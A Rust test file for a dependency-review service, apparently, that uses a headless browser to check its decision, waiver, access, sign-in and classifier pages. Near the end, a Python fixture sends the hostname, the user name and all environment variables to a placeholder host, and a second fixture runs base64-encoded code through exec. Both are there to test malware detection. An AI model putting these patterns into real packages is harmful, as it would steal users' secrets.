//! The pages in a real browser: signed in at the provider, wide and phone-sized.

use lockgate_classifier::Composition;
use lockgate_gate::{
    config::{Config, GrantConfig},
    web::auth::Role,
};
use lockgate_model::Ecosystem;
use lockgate_store::waivers::{self, Answer, NewWaiver, Requested};
use lockgate_tests::{
    app::{TestApp, advisory},
    oidc::{CLIENT_SECRET, Person, Provider},
    registry::{Package, lockfile},
};
use std::{path::Path, process::Command};

const LOCK: &str = "web/package-lock.json";

/// The browser of this machine. `cargo xtask test` installs one.
fn browser() -> &'static str {
    let names = ["chromium", "chromium-browser", "google-chrome"];
    let answers = |name: &&str| Command::new(name).arg("--version").output().is_ok_and(|o| o.status.success());
    names.into_iter().find(answers).expect("no browser is installed; run `cargo xtask test`, which installs chromium")
}

/// Runs the browser headless on `url`; answers what it prints.
fn visit(url: &str, width: u32, extra: &[String]) -> String {
    let profile = tempfile::tempdir().expect("a temporary folder can be made");
    let output = Command::new(browser())
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--hide-scrollbars"])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-sync", "--timeout=15000"])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("--window-size={width},1400"))
        .args(extra)
        .arg(url)
        .output()
        .expect("the browser starts");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Width and height in the header of a PNG file (RFC 2083, section 4.1.1).
fn png_size(path: &Path) -> (u32, u32) {
    let bytes = std::fs::read(path).expect("the browser wrote the picture");
    let number = |at: usize| u32::from_be_bytes(bytes[at..at + 4].try_into().expect("four bytes"));
    (number(16), number(20))
}

/// A server where everybody who comes is signed in as an admin.
async fn app() -> (TestApp, Provider) {
    app_with(|_| {}).await
}

async fn app_with(change: impl FnOnce(&mut Config)) -> (TestApp, Provider) {
    let provider = Provider::start(Person::new("octo-reviewer", &["operators"])).await;
    let app = TestApp::start_with(|config| {
        let secret = config
            .github
            .as_ref()
            .expect("what the test needs is there")
            .private_key_file
            .with_file_name("oidc-secret");
        std::fs::write(&secret, CLIENT_SECRET).expect("what the test needs is there");
        let grant = GrantConfig { group: "operators".to_owned(), role: Role::Admin, installations: None };
        config.auth = provider.auth(secret, vec![grant]);
        change(config);
    })
    .await;
    let critical = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H";
    app.import_advisories(&[advisory("GHSA-0000-0000-0000", "npm", "nobody-uses-this", "1.0.1", critical)]).await;
    (app, provider)
}

/// The address that signs in on the way to `path`: the browser goes to the provider and comes back with its cookie.
fn signed_in(app: &TestApp, path: &str) -> String {
    let next: String = url::form_urlencoded::byte_serialize(path.as_bytes()).collect();
    app.base.join(&format!("login/start?next={next}")).expect("what the test needs is there").to_string()
}

/// Takes the page's picture wide and phone-sized, and answers its document.
async fn look(name: &'static str, address: String) -> String {
    tokio::task::spawn_blocking(move || {
        let pictures = Path::new(env!("CARGO_TARGET_TMPDIR"));
        for (size, width) in [("wide", 1280), ("phone", 500)] {
            let picture = pictures.join(format!("{name}-{size}.png"));
            visit(&address, width, &[format!("--screenshot={}", picture.display())]);
            assert_eq!(png_size(&picture).0, width, "{name} {size}");
        }
        visit(&address, 1280, &["--dump-dom".to_owned()])
    })
    .await
    .expect("what the test needs is there")
}

#[tokio::test(flavor = "multi_thread")]
async fn decisions_show_what_to_do_wide_and_on_a_phone() {
    let (app, _provider) = app().await;
    let base = Package::npm("left-pad", "1.0.0");
    let next = Package::npm("left-pad", "1.0.1").script("preinstall", "node setup.js");
    let denied = Package::npm("is-odd", "3.0.0").license(Some("AGPL-3.0-only"));
    let fine = Package::npm("@scope/fine", "2.0.0");
    [&base, &next, &denied, &fine].into_iter().for_each(|p| app.registries.publish(p));
    let npm = |packages: &[&Package]| lockfile(Ecosystem::Npm, app.registries.base(), packages);
    app.repository(&[(LOCK, &npm(&[&base]))]);
    let run = app.judge("change", &[(LOCK, &npm(&[&next, &denied, &fine]))]).await;
    let page: url::Url = run.details_url.expect("a completed run links to its page").parse().unwrap();

    let decision = look("decision", signed_in(&app, page.path())).await;
    for part in ["deny", "is-odd", "AGPL-3.0-only", "Do:", "left-pad", "package.json", "@scope/fine", "1 more"] {
        assert!(decision.contains(part), "{part} is not on the page: {decision}");
    }
    let list = look("list", signed_in(&app, "/")).await;
    for part in ["octo/shop", "deny", "octo-reviewer", "admin", "Sign out", "/waivers"] {
        assert!(list.contains(part), "{part} is not on the page: {list}");
    }
    app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_waived_who_read_and_what_is_kept_are_shown_wide_and_on_a_phone() {
    let (app, _provider) = app().await;
    let base = Package::npm("left-pad", "1.0.0");
    let denied = Package::npm("is-odd", "3.0.0").license(Some("AGPL-3.0-only"));
    [&base, &denied].into_iter().for_each(|p| app.registries.publish(p));
    let npm = |packages: &[&Package]| lockfile(Ecosystem::Npm, app.registries.base(), packages);
    app.repository(&[(LOCK, &npm(&[&base]))]);
    let run = app.judge("change", &[(LOCK, &npm(&[&base, &denied]))]).await;
    let press = async |identifier| {
        let event = app.github.check_run_event("octo/shop", run.id, "requested_action", Some(identifier)).unwrap();
        app.github.deliver(&app.webhook(), "check_run", &event).await.unwrap();
    };
    press("request-waiver").await;
    app.idle().await;
    let asked = waivers::list(app.store().pool(), chrono::Utc::now()).await.unwrap();
    app.grant(asked[0].id).await;
    press("ask-again").await;
    let run = app.completed_again(&run).await;
    let page: url::Url = run.details_url.expect("a completed run links to its page").parse().unwrap();

    let decision = look("waived", signed_in(&app, page.path())).await;
    for part in ["allow", "Waived", "pkg:npm/is-odd@3.0.0", "license-denied", "until"] {
        assert!(decision.contains(part), "{part} is not on the page: {decision}");
    }
    let read = look("access", signed_in(&app, "/access")).await;
    let id = page.path().trim_start_matches("/d/");
    for part in ["octo-reviewer", "/d/{id}", id] {
        assert!(read.contains(part), "{part} is not on the page: {read}");
    }
    let kept = look("retention", signed_in(&app, "/retention")).await;
    for part in ["deliveries", "180", "access"] {
        assert!(kept.contains(part), "{part} is not on the page: {kept}");
    }
    app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn waivers_can_be_answered_wide_and_on_a_phone() {
    let (app, _provider) = app().await;
    let mut connection = app.store().pool().acquire().await.unwrap();
    let wanted = |purl, reason| NewWaiver {
        installation_id: 1,
        repository_id: 1,
        repository: "octo/shop",
        purl,
        code: "license-denied",
        reason,
        requested_by: "github:octo-dev",
    };
    let now = chrono::Utc::now();
    let long = "Used in one build script that is never shipped; the replacement is planned for the next release.";
    for (purl, reason) in
        [("pkg:npm/is-odd@3.0.0", long), ("pkg:cargo/a-crate-with-a-rather-long-name@10.20.30", "Soon gone.")]
    {
        waivers::request(&mut connection, &wanted(purl, reason)).await.unwrap();
    }
    let grant = Answer::Grant { expires_at: now + chrono::TimeDelta::days(14) };
    for (purl, answer) in [("pkg:npm/left-pad@1.0.1", grant), ("pkg:pypi/requests@2.0.0", Answer::Refuse)] {
        let Requested::New(id) = waivers::request(&mut connection, &wanted(purl, "Needed today.")).await.unwrap()
        else {
            panic!("the request is new")
        };
        waivers::answer(&mut connection, id, answer, "person:octo-reviewer", "After a look.", now).await.unwrap();
    }
    drop(connection);
    let page = look("waivers", signed_in(&app, "/waivers")).await;
    for part in ["pkg:npm/is-odd@3.0.0", "Grant", "Refuse", "for 30 days", "granted", "refused", "End it", "octo-dev"] {
        assert!(page.contains(part), "{part} is not on the page: {page}");
    }
    app.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_sign_in_says_how() {
    let (app, _provider) = app().await;
    let page = look("login", app.base.join("login").unwrap().to_string()).await;
    assert!(page.contains("Sign in") && page.contains("/login/start"), "{page}");
    // Who is not signed in comes here from every page.
    let list = app.base.to_string();
    let page = tokio::task::spawn_blocking(move || visit(&list, 1280, &["--dump-dom".to_owned()])).await.unwrap();
    assert!(page.contains("/login/start?next=%2F"), "{page}");
    app.finish().await;
    let without_provider = TestApp::start_without_feed().await;
    let page = look("login-token", without_provider.base.join("login").unwrap().to_string()).await;
    assert!(page.contains("lockgate token create") && page.contains("type=\"password\""), "{page}");
    without_provider.finish().await;
}

/// Inert: a host that cannot exist, and an encoded remark.
const TAKES: &str = "import os\nimport socket\nimport urllib.request\n\ndata = {'host': socket.gethostname(), 'user': os.getlogin(), \
                     'env': dict(os.environ)}\nurllib.request.urlopen('https://collector.invalid/hook', \
                     data=str(data).encode())\n";
const RUNS: &str =
    "import base64\nexec(base64.b64decode('cHJpbnQoIk5vdGhpbmcgaGFwcGVucyBoZXJlLiBUaGlzIGlzIGEgZml4dHVyZS4iKQ=='))\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_score_is_asked_again_in_the_browser() {
    let model = concat!(env!("CARGO_MANIFEST_DIR"), "/../services/classifier/models/classifier.onnx");
    let (app, _provider) = app_with(|config| config.classifier.model = Some(model.into())).await;
    let shop = |version: &str| Package::new(Ecosystem::Pypi, "shop", version);
    let (base, next) = (shop("1.0.0"), shop("1.0.1").file("shop/report.py", TAKES).file("shop/load.py", RUNS));
    [&base, &next].into_iter().for_each(|p| app.registries.publish(p));
    let pinned = |package: &Package| lockfile(Ecosystem::Pypi, app.registries.base(), &[package]);
    app.repository(&[("requirements.txt", &pinned(&base))]);
    let run = app.judge("change", &[("requirements.txt", &pinned(&next))]).await;
    let page: url::Url = run.details_url.expect("a completed run links to its page").parse().unwrap();

    let decided = look("scored", signed_in(&app, page.path())).await;
    for part in ["classifier-suspicious", "What the classifier saw", "shop/report.py", "shop/load.py", "flagged"] {
        assert!(decided.contains(part), "{part} is not on the page: {decided}");
    }
    let made: Composition =
        serde_json::from_str(&between(&decided, "data-composition=\"", "\"").replace("&quot;", "\"")).unwrap();
    assert!(made.hunks.len() > 1 && made.rest.is_some(), "{made:?}");
    assert!(!decided.contains("data-hunk=\"\" checked=\"\" hidden"), "the script did not run: {decided}");
    let shown = |page: &str| between(page, "data-score=\"\">", "<").to_owned();
    let all = vec![true; made.hunks.len()];
    assert_eq!(shown(&decided), format!("{:.2}", made.score(&all).unwrap()));

    // Without every place that is named, the rest is scored.
    let places: Vec<String> = (0..made.hunks.len()).map(|place| format!("0.{place}")).collect();
    let address = signed_in(&app, page.path()) + "#without=" + &places.join(",");
    let again = look("scored-again", address).await;
    assert_eq!(shown(&again), format!("{:.2}", made.score(&vec![false; all.len()]).unwrap()));
    assert!(shown(&again) != shown(&decided), "{again}");

    let models = look("models", signed_in(&app, "/models")).await;
    for part in
        ["active", "sha256:", "update recall at 0.1%", "In the last day", "quarantine", "by configuration", "Moves"]
    {
        assert!(models.contains(part), "{part} is not on the page: {models}");
    }
    app.finish().await;
}

fn between<'a>(text: &'a str, before: &str, after: &str) -> &'a str {
    let (_, rest) = text.split_once(before).unwrap_or_else(|| panic!("{before} is not on the page: {text}"));
    rest.split_once(after).expect("the text goes on").0
}
